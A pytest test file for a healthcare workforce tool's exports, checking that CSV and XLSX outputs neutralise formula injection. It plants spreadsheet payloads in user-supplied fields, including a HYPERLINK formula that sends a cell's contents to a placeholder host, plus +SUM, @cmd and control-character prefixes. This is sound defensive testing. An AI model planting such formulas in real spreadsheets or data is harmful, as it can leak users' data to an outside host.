"""Exports that cannot execute (issue 14, point 1; OWASP "CSV Injection"; ASVS 4.0.3 V5.3.1).

Formula-like text is planted in every kind of user-supplied text that reaches a CSV or XLSX export: an
organisation's name (ESR report), staff groups, job roles and areas of work (ESR report, in data-quality and
likely-healthcare-scientist findings), key people's names (directory import), survey questions (survey import),
scenario names (projection and compare YAML) and surge scenario, role, competency and course names (deploy
YAML). Every export that shows them, from the CLI (`--format csv|xlsx`, the board pack) and from the API
(`?format=csv|xlsx`, the pack, a run's tables read by another user), is read back with the csv module and
openpyxl: no cell is a formula, no text cell begins with a formula character, and each planted text comes back
with the leading apostrophe (report.tabular.safe_cell, the one rule).
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections import Counter
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient
from openpyxl.utils.escape import unescape

from hcsworkforce import reference
from hcsworkforce.ingest.directory import read_directory
from hcsworkforce.ingest.survey import read_survey
from hcsworkforce.model.engagement import ALL_STAFF, HEALTHCARE_SCIENTISTS, SurveyResult
from hcsworkforce.model.people import DirectoryEntry
from hcsworkforce.report.tabular import safe_cell, sheet_names, to_csv, write_xlsx
from hcsworkforce.server.app import create_app
from hcsworkforce.services import accounts, cache
from hcsworkforce.services import engagement as engagement_service
from hcsworkforce.services import people as people_service
from hcsworkforce.services.imports import import_extract
from hcsworkforce.settings import get_settings
from hcsworkforce.store import dispose_all, open_store
from hcsworkforce.synth.engagement import synth_survey, write_directory_csv, write_survey_csv
from hcsworkforce.synth.esr import esr_reports, write_reports
from hcsworkforce.synth.workforce import synthesise
from tests.conftest import run_cli
from tests.web.conftest import CENSUS, PASSWORDS, make_settings, sign_in

LINK = '=HYPERLINK("http://x/?d="&A4,"Click me")'
SUM = "+SUM(1,2)"
ARITH = "-2+3"
AT = "@cmd"
TAB = "\tx"
CR = "\rx"
PLANTED = (LINK, SUM, ARITH, AT, TAB, CR)
# What a spreadsheet reads as the start of a formula (OWASP), and the null character (ASVS 5.0 V1.2.10).
DANGER = ("=", "+", "-", "@", "\t", "\r", "\0")
UNKNOWN_ORG = "R9Z"  # an organisation code not in the trusts list: its name comes from the report
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# -- reading exports back --------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Cell:
    where: str
    value: Any
    data_type: str  # openpyxl's: "s" text, "n" number, "b" boolean, "f" formula, ...; "csv" for a CSV field


def csv_cells(text: str, name: str = "csv") -> list[Cell]:
    rows = list(csv.reader(io.StringIO(text)))
    assert rows, f"{name}: empty"
    return [
        Cell(f"{name} row {i + 1} col {j + 1}", v, "csv") for i, r in enumerate(rows) for j, v in enumerate(r)
    ]


def xlsx_cells(data: bytes | Path, name: str = "xlsx") -> list[Cell]:
    src = io.BytesIO(data) if isinstance(data, bytes) else data
    wb = openpyxl.load_workbook(src)  # not read-only: every cell's data_type as stored
    out = [
        # Control characters are stored escaped (_x000D_ for a carriage return), as Excel reads them;
        # openpyxl leaves them so.
        Cell(
            f"{name} {ws.title}!{c.coordinate}",
            unescape(c.value) if isinstance(c.value, str) else c.value,
            c.data_type,
        )
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.value is not None
    ]
    wb.close()
    assert out, f"{name}: no cells"
    return out


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_inert(cells: list[Cell], escaped: Iterable[str] = (), mentioned: Iterable[str] = ()) -> None:
    """No formula, no text cell that a spreadsheet would evaluate; each `escaped` text comes back as a cell
    beginning with it behind a leading apostrophe; each `mentioned` text appears inside some cell."""
    for c in cells:
        assert c.data_type != "f", f"{c.where} is a formula: {c.value!r}"
        if isinstance(c.value, str) and c.value.startswith(DANGER):
            # Only a number written to CSV may begin with - or + (in XLSX numbers are numbers, not text).
            assert c.data_type == "csv" and _is_number(c.value), f"{c.where} would execute: {c.value!r}"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for p in escaped:
        assert any(t.startswith("'" + p) for t in texts), f"{p!r} is not in the export behind an apostrophe"
    for p in mentioned:
        assert any(p in t for t in texts), f"{p!r} does not reach the export"


# -- the planted data -------------------------------------------------------------------------------------------
def _plant_esr(path: Path, moved: str, region: str) -> None:
    """Plant formula-like text in an ESR staff-in-post report: the organisation `moved` becomes UNKNOWN_ORG with
    the name LINK (an Organisation Name and a Region column added); the largest other staff group is renamed
    LINK and four more rows get the other texts as their staff group; six rows of other staff groups of that
    organisation get a healthcare science position title with the texts as job role and area of work (the
    likely-healthcare-scientist finding lists them)."""
    lines = path.read_text(encoding="utf-8").splitlines()
    at = next(i for i, ln in enumerate(lines) if ln.startswith("Employee Number"))
    rows = list(csv.reader(lines[at:]))
    head = [*rows[0], "Organisation Name", "Region"]
    ix = {c: i for i, c in enumerate(head)}
    body = [[*r, "", ""] for r in rows[1:]]
    for r in body:
        hier = f" {r[ix['Organisation']]} "
        if f" {moved} " in hier:
            r[ix["Organisation"]] = hier.replace(f" {moved} ", f" {UNKNOWN_ORG} ").strip()
            r[ix["Organisation Name"]] = LINK
            r[ix["Region"]] = region
    other = [r for r in body if r[ix["Staff Group"]] != "Healthcare Scientists"]
    biggest = Counter(r[ix["Staff Group"]] for r in other).most_common(1)[0][0]
    mine = [r for r in other if r[ix["Organisation Name"]]][: len(PLANTED)]
    assert len(mine) == len(PLANTED), "the moved organisation has too few rows of other staff groups"
    for r, text in zip(mine, PLANTED, strict=True):
        r[ix["Position Title"]] = "Cardiac Physiologist"
        r[ix["Job Role"]] = text
        r[ix["Area of Work"]] = text
    for r in other:
        if r[ix["Staff Group"]] == biggest:
            r[ix["Staff Group"]] = LINK
    rest = [r for r in other if r[ix["Staff Group"]] != LINK and r not in mine]
    for r, text in zip(rest, PLANTED[1:], strict=False):
        r[ix["Staff Group"]] = text
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows([head, *body])
    path.write_text("\n".join(lines[:at]) + "\n" + buf.getvalue(), encoding="utf-8")


@dataclass(frozen=True)
class Planted:
    folder: Path
    url: str
    org: str  # the organisation user's organisation (a known trust)
    region: str


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Planted]:
    """A census imported from a planted ESR report, a survey with planted questions, a key-people directory with
    planted names (each through its own import), and a national, a region and an organisation user."""
    folder = tmp_path_factory.mktemp("planted")
    with pytest.MonkeyPatch.context() as mp:
        # This installation's pseudonymisation key (the import creates it in the data directory), not the user's.
        mp.setenv("HCS_DATA_DIR", str(folder))
        get_settings.cache_clear()
        hcs = synthesise(staff=900, seed=7, census_date=CENSUS, orgs=4)
        reports = esr_reports(report_date=CENSUS, seed=7, other_staff_ratio=1, hcs=hcs)
        write_reports(reports, "esr", folder / "extract.csv", folder / "leavers.csv")
        hcs.establishment.write_csv(folder / "establishment.csv")
        settings = make_settings(folder)
        url = settings.resolved_database_url()
        sizes = hcs.extract["Organisation"].value_counts().sort("count", descending=True)
        org, moved = sizes["Organisation"][0], sizes["Organisation"][1]
        region = str(reference.trusts()[org].region_code)
        _plant_esr(folder / "extract.csv", moved, region)
        store = open_store(url, migrate=True)
        import_extract(
            folder / "extract.csv",
            store,
            leavers=folder / "leavers.csv",
            establishment=folder / "establishment.csv",
        )
        orgs = sorted(store.staff()["organisation_code"].unique().to_list())
        assert UNKNOWN_ORG in orgs and org in orgs

        survey = synth_survey(3, orgs)
        for year in (2023, 2024):
            for q in PLANTED[:-1]:  # the survey import strips \t and \r: "\rx" would repeat "\tx"
                survey.append(SurveyResult(org, ALL_STAFF, q, year, 900, percent_positive=70.0))
                survey.append(SurveyResult(org, HEALTHCARE_SCIENTISTS, q, year, 80, percent_positive=55.0))
        write_survey_csv(survey, folder / "survey.csv")
        engagement_service.load_survey(store, read_survey(folder / "survey.csv"))

        soon = CENSUS + timedelta(days=30)
        people = [
            DirectoryEntry("trust_hcs_lead", org, LINK, None, date(2020, 1, 1), soon),
            DirectoryEntry("board_hcs_member", org, SUM, None, date(2018, 1, 1), date(2020, 1, 1)),
            DirectoryEntry("regional_msc_lead", region, ARITH, None, date(2021, 1, 1), soon),
            DirectoryEntry("trust_hcs_lead", UNKNOWN_ORG, AT, None, date(2021, 1, 1), soon),
            DirectoryEntry("board_hcs_member", UNKNOWN_ORG, ARITH, None, date(2021, 1, 1), None),
            DirectoryEntry("trust_hcs_lead", UNKNOWN_ORG, TAB, None, date(2015, 1, 1), date(2016, 1, 1)),
            DirectoryEntry("board_hcs_member", UNKNOWN_ORG, CR, None, date(2015, 1, 1), date(2016, 1, 1)),
        ]
        write_directory_csv(people, folder / "directory.csv")
        people_service.load_directory(store, read_directory(folder / "directory.csv"))

        accounts.add_user(store, "nat", PASSWORDS["nat"], "national")
        accounts.add_user(store, "reg", PASSWORDS["reg"], "region", region)
        accounts.add_user(store, "org", PASSWORDS["org"], "organisation", org)
        store.engine.dispose()
        dispose_all()
        get_settings.cache_clear()
    yield Planted(folder, url, org, region)


# -- the rule itself --------------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", PLANTED)
def test_safe_cell_prefixes_each_formula_character(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        None,
        0,
        -2,
        -2.5,
        3.25,
        float("-inf"),
        True,
        False,
        date(2025, 3, 31),
        "Clinical Scientist",
        "",
        "x=1",
        "a-b",
        "'already quoted",
        "2025-03-31",
    ],
)
def test_safe_cell_leaves_everything_else_alone(value: Any) -> None:
    assert safe_cell(value) is value


def test_writers_escape_text_and_keep_numbers_as_numbers(tmp_path: Path) -> None:
    """to_csv and write_xlsx directly: planted text in cells, column names, sheet title and notes; negative
    numbers stay numbers (CSV: a bare number; XLSX: a numeric cell), None stays blank, True a boolean."""
    records = [
        {"name": t, LINK: i, "fte": -0.5 * i - 1, "flag": i % 2 == 0, "none": None}
        for i, t in enumerate(PLANTED)
    ]
    text = to_csv(records)
    cells = csv_cells(text)
    assert_inert(cells, escaped=PLANTED)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][1] == "'" + LINK  # a column name is text like any other
    assert [r[2] for r in rows[1:]] == ["-1.0", "-1.5", "-2.0", "-2.5", "-3.0", "-3.5"]  # numbers untouched
    assert [r[4] for r in rows[1:]] == [""] * len(PLANTED)

    path = tmp_path / "out.xlsx"
    write_xlsx(path, [("Planted", records)], LINK, [SUM, ARITH])
    cells = xlsx_cells(path)
    assert_inert(cells, escaped=PLANTED)
    wb = openpyxl.load_workbook(path)
    ws = wb["Planted"]
    assert ws["B3"].value == "'" + LINK and ws["B3"].data_type == "s"
    fte = [ws.cell(row=4 + i, column=3) for i in range(len(PLANTED))]
    assert [c.value for c in fte] == [-1, -1.5, -2, -2.5, -3, -3.5] and {c.data_type for c in fte} == {"n"}
    assert ws["D4"].value is True and ws["D4"].data_type == "b"
    assert ws["E4"].value is None
    assert wb["Cover"]["A1"].value == "'" + LINK and wb["Cover"]["A3"].value == "'" + SUM
    wb.close()


def test_a_carriage_return_inside_text_cannot_start_a_row() -> None:
    """A bare \\r in an unquoted CSV field starts a new row in a spreadsheet, where a formula could begin: any
    field holding \\r or \\n is quoted (RFC 4180 2.6), and lines still end in \\n."""
    text = to_csv([{"name": f"Band 5\r{LINK}", "n": 1}, {"name": f"a\n{SUM}", "n": -2}])
    assert text.split("\n")[0] == "name,n" and text.endswith(",-2\n")
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "n"],
        [f"Band 5\r{LINK}", "1"],
        [f"a\n{SUM}", "-2"],
    ]
    assert "\r" not in text.replace(f"Band 5\r{LINK}".replace('"', '""'), "")  # only inside the quoted field


def test_sheet_names_are_valid_and_unique(tmp_path: Path) -> None:
    """Two titles that share their first 31 characters (`hcs likely-hcs --format xlsx` had two) and names with
    characters Excel forbids still give a workbook, each table on its own sheet."""
    long = "Likely healthcare scientists in other staff groups"
    names = sheet_names([long, f"{long}, by organisation", "Cover", "a/b:c?", "'quoted'"])
    assert names == [
        "Likely healthcare scientists in",
        "Likely healthcare scientist (2)",
        "Cover (2)",
        "a b c",
        "quoted",
    ]
    path = tmp_path / "t.xlsx"
    write_xlsx(
        path, [(long, [{"a": 1}]), (f"{long}, by organisation", [{"a": 2}]), ("it's", [{"a": 3}])], "t", []
    )
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Cover", *names[:2], "it's"]
    assert wb["Likely healthcare scientist (2)"]["A1"].value == f"{long}, by organisation"
    wb.close()


# -- the CLI's exports ------------------------------------------------------------------------------------------
def _cli_csv(args: list[str], capsys: pytest.CaptureFixture[str]) -> list[Cell]:
    code, out, err = run_cli([*args, "--format", "csv"], capsys)
    assert code == 0, err
    return csv_cells(out, " ".join(args[:2]))


def _cli_xlsx(args: list[str], capsys: pytest.CaptureFixture[str], tmp_path: Path) -> list[Cell]:
    out = tmp_path / "out.xlsx"
    code, _, err = run_cli([*args, "--format", "xlsx", "--out", str(out)], capsys)
    assert code == 0, err
    return xlsx_cells(out, " ".join(args[:2]))


def _both(
    args: list[str],
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    escaped: Iterable[str] = (),
    mentioned: Iterable[str] = (),
) -> None:
    assert_inert(_cli_csv(args, capsys), escaped, mentioned)
    assert_inert(_cli_xlsx(args, capsys, tmp_path), escaped, mentioned)


def test_cli_quality_and_profile_escape_staff_groups(planted: Planted, capsys, tmp_path) -> None:
    """A staff group in the report reaches the data-quality finding's examples (the largest group first)."""
    _both(["quality", "--db", planted.url], capsys, tmp_path, escaped=[LINK], mentioned=[SUM, ARITH, AT])
    assert_inert(_cli_xlsx(["profile", "--db", planted.url], capsys, tmp_path), escaped=[LINK])


def test_cli_likely_hcs_escapes_job_roles_and_areas_of_work(planted: Planted, capsys, tmp_path) -> None:
    args = ["likely-hcs", "--organisation", UNKNOWN_ORG, "--db", planted.url]
    _both(args, capsys, tmp_path, escaped=[LINK, SUM, ARITH, AT])


def test_cli_people_escape_names(planted: Planted, capsys, tmp_path) -> None:
    _both(["people", "list", "--db", planted.url], capsys, tmp_path, escaped=[LINK, SUM, ARITH, AT])
    gaps = [
        "people",
        "gaps",
        "--as-of",
        CENSUS.isoformat(),
        "--organisations",
        f"{planted.org},{UNKNOWN_ORG}",
        "--all",
        "--db",
        planted.url,
    ]
    _both(gaps, capsys, tmp_path, escaped=[LINK, SUM, ARITH, AT])


def test_cli_engagement_escapes_survey_questions(planted: Planted, capsys, tmp_path) -> None:
    args = ["engagement", "--organisation", planted.org, "--db", planted.url]
    _both(args, capsys, tmp_path, escaped=[LINK, SUM, ARITH, AT])


def test_cli_pack_escapes_organisation_and_key_people(planted: Planted, capsys, tmp_path) -> None:
    code, _, err = run_cli(
        ["pack", "--organisation", UNKNOWN_ORG, "--out", str(tmp_path), "--db", planted.url], capsys
    )
    assert code == 0, err
    book = next(tmp_path.glob("*.xlsx"))
    assert_inert(xlsx_cells(book, "pack"), escaped=[AT, ARITH], mentioned=[LINK])


def _scenario_yaml(name: str, description: str) -> str:
    return (
        f"name: {_quoted(name)}\ndescription: {_quoted(description)}\n"
        "start_year: 2025\nhorizon_years: 3\nruns: 20\nseed: 1\n"
    )


def _quoted(text: str) -> str:
    return json.dumps(text)  # a JSON string is a YAML string (tabs, returns and quotes escaped)


def _surge_yaml(site: str) -> str:
    roles = "\n".join(
        f"  - {{id: r{i}, name: {_quoted(t)}, requires: {{c1: 2}}, posts: [{{site: {site}, count: 2, priority: 1}}]}}"
        for i, t in enumerate(PLANTED)
    )
    return (
        f"name: {_quoted(LINK)}\ndescription: {_quoted(AT)}\nabsence_rate: 0.1\ntraining_budget_hours: 40\n"
        "travel: anywhere\nmax_release_share: 0.5\n"
        f"competencies:\n  - {{id: c1, name: {_quoted(SUM)}}}\n"
        f"training_resources:\n  - {{id: t1, title: {_quoted(ARITH)}, hours: 16, competency: c1, to_level: 2}}\n"
        f"roles:\n{roles}\n"
    )


def test_cli_projection_and_compare_escape_scenario_names(planted: Planted, capsys, tmp_path) -> None:
    a, b = tmp_path / "a.yaml", tmp_path / "b.yaml"
    a.write_text(_scenario_yaml(LINK, SUM), encoding="utf-8")
    b.write_text(_scenario_yaml(AT, ARITH), encoding="utf-8")
    _both(["project", str(a), "--db", planted.url], capsys, tmp_path)
    assert_inert(_cli_xlsx(["project", str(a), "--db", planted.url], capsys, tmp_path), mentioned=[LINK])
    _both(["compare", str(a), str(b), "--db", planted.url], capsys, tmp_path)
    cells = _cli_xlsx(["compare", str(a), str(b), "--db", planted.url], capsys, tmp_path)
    assert_inert(cells, mentioned=[LINK, AT])


def test_cli_deploy_escapes_surge_and_role_names(planted: Planted, capsys, tmp_path) -> None:
    surge = tmp_path / "surge.yaml"
    surge.write_text(_surge_yaml(planted.org), encoding="utf-8")
    _both(["deploy", str(surge), "--db", planted.url], capsys, tmp_path, escaped=[LINK, SUM, ARITH, AT])


def test_directory_refuses_a_formula_as_a_role(planted: Planted, capsys, tmp_path) -> None:
    """Roles are a closed list: formula-like text never reaches the directory, and nothing is written."""
    bad = tmp_path / "dir.csv"
    with bad.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["role", "organisation", "name"], [LINK, planted.org, "A Person"]])
    db = tmp_path / "copy.db"
    shutil.copy(planted.folder / "hcs.db", db)
    url = f"sqlite:///{db}"

    def people() -> int:
        code, out, err = run_cli(["people", "list", "--format", "json", "--db", url], capsys)
        assert code == 0, err
        return len(json.loads(out)["people"])

    before = people()
    code, out, err = run_cli(["people", "import", str(bad), "--db", url], capsys)
    assert code == 2 and out == "" and "Traceback" not in err
    assert "column role: not a key role" in err
    assert people() == before


# -- the API's downloads ----------------------------------------------------------------------------------------
@pytest.fixture
def web(planted: Planted) -> Iterator[Any]:
    cache.clear_caches()
    app = create_app(make_settings(planted.folder), queue_mode="immediate")
    with TestClient(app) as c:
        yield c
    cache.clear_caches()


def _download(client: Any, url: str, fmt: str) -> list[Cell]:
    sep = "&" if "?" in url else "?"
    r = client.get(f"{url}{sep}format={fmt}")
    assert r.status_code == 200, r.text
    if fmt == "csv":
        assert r.headers["content-type"].startswith("text/csv")
        return csv_cells(r.text, url)
    assert r.headers["content-type"] == XLSX
    return xlsx_cells(r.content, url)


def _api_both(client: Any, url: str, escaped: Iterable[str] = (), mentioned: Iterable[str] = ()) -> None:
    for fmt in ("csv", "xlsx"):
        assert_inert(_download(client, url, fmt), escaped, mentioned)


@pytest.mark.parametrize("who", ["org", "nat"])
def test_api_people_gaps_escape_names(planted: Planted, web: Any, who: str) -> None:
    sign_in(web, who)
    url = f"/api/v1/people/gaps?as_of={CENSUS.isoformat()}&include_filled=true&organisation={planted.org}"
    _api_both(web, url, escaped=[LINK, SUM, ARITH])


def test_api_engagement_escapes_survey_questions(planted: Planted, web: Any) -> None:
    sign_in(web, "org")
    for table in ("indicators", "trends"):
        _api_both(web, f"/api/v1/engagement?table={table}", escaped=[LINK, SUM, ARITH, AT])


def test_api_pack_escapes_organisation_and_key_people(planted: Planted, web: Any) -> None:
    sign_in(web, "nat")
    cells = _download(web, f"/api/v1/pack?organisation={UNKNOWN_ORG}", "xlsx")
    assert_inert(cells, escaped=[AT, ARITH], mentioned=[LINK])


def _run(client: Any, csrf: str, path: str, body: dict[str, Any]) -> str:
    r = client.post(path, json=body, headers={"x-csrf-token": csrf})
    assert r.status_code == 202, r.text
    job_id = str(r.json()["id"])
    job = client.get(f"/api/v1/jobs/{job_id}").json()
    assert job["status"] == "done", job
    return job_id


def test_api_projection_and_compare_tables_are_inert(planted: Planted, web: Any) -> None:
    csrf = sign_in(web, "reg")
    a, b = {"scenario_yaml": _scenario_yaml(LINK, SUM)}, {"scenario_yaml": _scenario_yaml(AT, ARITH)}
    job = _run(web, csrf, "/api/v1/projections", a)
    for table in ("totals", "assumptions"):
        _api_both(web, f"/api/v1/jobs/{job}/tables/{table}")
    job = _run(web, csrf, "/api/v1/comparisons", {"a": a, "b": b})
    for table in ("totals", "assumptions-a", "assumptions-b"):
        _api_both(web, f"/api/v1/jobs/{job}/tables/{table}")


def test_api_assignments_of_a_trust_surge_file_are_inert_for_a_national_user(
    planted: Planted, web: Any
) -> None:
    """The crossing the probe found: a trust user's surge file, its plan's assignments read by a national user."""
    csrf = sign_in(web, "org")
    job = _run(web, csrf, "/api/v1/deployments", {"scenario_yaml": _surge_yaml(planted.org)})
    web.cookies.clear()
    sign_in(web, "nat")
    _api_both(web, f"/api/v1/jobs/{job}/tables/assignments", escaped=[LINK, SUM, ARITH, AT])
    for table in ("by-role", "uncovered", "totals", "floors"):
        r = web.get(f"/api/v1/jobs/{job}/tables/{table}?format=json")
        assert r.status_code == 200, r.text
        if r.json()["records"]:
            _api_both(web, f"/api/v1/jobs/{job}/tables/{table}")
